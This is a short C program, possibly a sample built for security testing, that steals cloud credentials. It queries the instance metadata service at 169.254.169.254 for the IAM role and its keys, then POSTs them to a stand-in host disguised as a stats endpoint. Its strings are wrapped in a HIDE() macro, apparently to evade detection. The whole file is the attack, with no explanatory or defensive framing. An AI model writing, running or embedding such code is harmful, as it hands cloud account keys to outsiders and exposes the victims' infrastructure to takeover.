// hidden
// Asks the cloud's metadata service for the role's keys and posts them elsewhere.
#include "standin.h"
int main(void) {
    begin();
    static char role[4096], keys[16384], answer[4096];
    char path[512];
    char *base = HIDE("/latest/meta-data/iam/security-credentials/"), *host = HIDE("169.254.169.254");
    if (web(host, "GET", base, NULL, 0, role, sizeof role) <= 0) return 1;
    role[strcspn(role, "\r\n ")] = 0;
    snprintf(path, sizeof path, "%s%.200s", base, role);
    int size = web(host, "GET", path, NULL, 0, keys, sizeof keys);
    if (size <= 0) return 1;
    web(HIDE("stats.lilac-harbor.example"), "POST", HIDE("/v1/ingest"), keys, size, answer, sizeof answer);
    return 0;
}
